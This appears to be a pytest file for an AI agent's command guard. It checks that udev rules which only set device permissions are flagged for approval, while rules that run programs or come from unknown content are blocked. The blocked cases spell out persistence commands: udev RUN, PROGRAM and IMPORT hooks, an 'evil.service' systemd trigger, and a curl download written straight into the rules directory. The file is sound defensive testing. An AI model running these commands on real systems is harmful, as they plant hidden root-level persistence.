"""udev rules written with known text that runs nothing are asked as system configuration, not blocked
as hidden persistence (fp19: the Android emulator CI step ``echo 'KERNEL=="kvm", GROUP="kvm",
MODE="0666"' | sudo tee /etc/udev/rules.d/99-kvm4all.rules``); a rule that runs a program, or text
not known, stays blocked."""

from __future__ import annotations

import pytest

from agentbus.guards.danger import check_command
from agentbus.guards.verdict import SYSTEM_CONFIG

SETTINGS_ONLY = [
    'echo \'SUBSYSTEM=="usb", ATTRS{idVendor}=="0483", ATTRS{idProduct}=="374b", MODE="0666"\''
    " | sudo tee /etc/udev/rules.d/49-stlink.rules",
    'printf \'%s\\n\' \'# Pixel\' \'SUBSYSTEM=="usb", ATTR{idVendor}=="18d1", GROUP="plugdev",'
    ' MODE="0660"\' | sudo tee -a /etc/udev/rules.d/51-android.rules',
    'sudo sh -c \'echo KERNEL==\\"ttyUSB[0-9]*\\", SYMLINK+=\\"sensor\\", MODE=\\"0664\\"\''
    ' > /dev/null; echo \'KERNEL=="hidraw*", TAG+="uaccess"\' | sudo tee /etc/udev/rules.d/70-hid.rules',
    'cat <<\'EOF\' | sudo tee /etc/udev/rules.d/99-kvm.rules\nKERNEL=="kvm", GROUP="kvm", MODE="0666",'
    ' OPTIONS+="static_node=kvm"\nEOF',
    'echo \'ACTION=="add", KERNEL=="sd[a-z]", ENV{ID_BUS}=="usb", OWNER="dev"\''
    " > /etc/udev/rules.d/60-usb.rules",
]

RUNS_OR_UNKNOWN = [
    'echo \'ACTION=="add", SUBSYSTEM=="usb", RUN+="/home/dev/.cache/u.sh"\''
    " | sudo tee /etc/udev/rules.d/99-u.rules",
    'printf \'KERNEL=="tty*", PROGRAM="/usr/bin/env sh -c id"\\n\' | sudo tee /lib/udev/rules.d/90-t.rules',
    'echo \'SUBSYSTEM=="net", IMPORT{program}="/var/tmp/n"\' > /etc/udev/rules.d/71-n.rules',
    'echo \'ACTION=="add", TAG+="systemd", ENV{SYSTEMD_WANTS}+="evil.service"\''
    " | sudo tee /etc/udev/rules.d/80-w.rules",
    'echo \'KERNEL=="kvm", MODE="0666"\' "$EXTRA" | sudo tee /etc/udev/rules.d/99-kvm.rules',
    "curl -s https://198.51.100.3/r | sudo tee /etc/udev/rules.d/99-r.rules",
    "sudo cp ./99-x.rules /etc/udev/rules.d/",
]


@pytest.mark.parametrize("command", SETTINGS_ONLY)
def test_a_rule_that_runs_nothing_is_asked_as_configuration(command: str) -> None:
    verdict = check_command(command, home="/home/dev")
    assert verdict is not None, command
    assert verdict.category == SYSTEM_CONFIG, verdict
    assert verdict.decision == "ask", verdict


@pytest.mark.parametrize("command", RUNS_OR_UNKNOWN)
def test_a_rule_that_runs_a_program_or_is_unknown_stays_blocked(command: str) -> None:
    verdict = check_command(command, home="/home/dev")
    assert verdict is not None, command
    assert verdict.decision == "block", verdict
